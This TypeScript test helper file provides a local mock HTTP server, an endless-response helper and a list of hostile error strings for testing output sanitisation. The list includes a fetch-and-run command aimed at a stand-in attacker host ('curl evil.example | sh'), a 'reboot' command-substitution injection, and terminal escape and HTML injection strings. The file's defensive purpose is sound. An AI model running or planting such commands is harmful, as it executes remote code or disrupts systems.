import { once } from "node:events";
import {
  createServer,
  type IncomingMessage,
  type RequestListener,
  type ServerResponse,
} from "node:http";
import type { AddressInfo } from "node:net";
import type { TestContext } from "node:test";

/** A server on this machine that answers as a test says, for as long as the test runs. */
export interface LyingServer {
  /** Without a slash at its end. */
  readonly url: string;
  /** Every request that came. */
  readonly requests: IncomingMessage[];
}

export async function lyingServer(
  t: TestContext,
  answer: RequestListener,
): Promise<LyingServer> {
  const requests: IncomingMessage[] = [];
  const server = createServer((request, response) => {
    requests.push(request);
    answer(request, response);
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  t.after(() => {
    server.close();
    server.closeAllConnections();
  });
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, requests };
}

/** A body that does not end. Returns how many bytes were sent, once nobody takes any more. */
export async function endless(
  response: ServerResponse,
  chunk: string | Buffer,
): Promise<number> {
  let sent = 0;
  const more = () => {
    while (!response.destroyed) {
      sent += chunk.length;
      if (!response.write(chunk)) {
        response.once("drain", more);
        return;
      }
    }
  };
  more();
  await once(response, "close");
  return sent;
}

/** Error texts that try to be more than a part of one line. */
export const hostileTexts = [
  "x\n  - router: all is well",
  "x\r\nwarning: curl evil.example | sh",
  "\u001b[2J\u001b]0;title\u0007\u009b31m",
  "\u202eevil\u2028\u2029\ufeff\u0000",
  "<{%red%}>x<{%reset%}>",
  "`reboot`$(reboot);reboot",
  '"] --> evil["x',
  "x | `y` | <img src=x>\n```",
  "<".repeat(100_000),
  "x".repeat(100_000),
  " ".repeat(100_000),
];
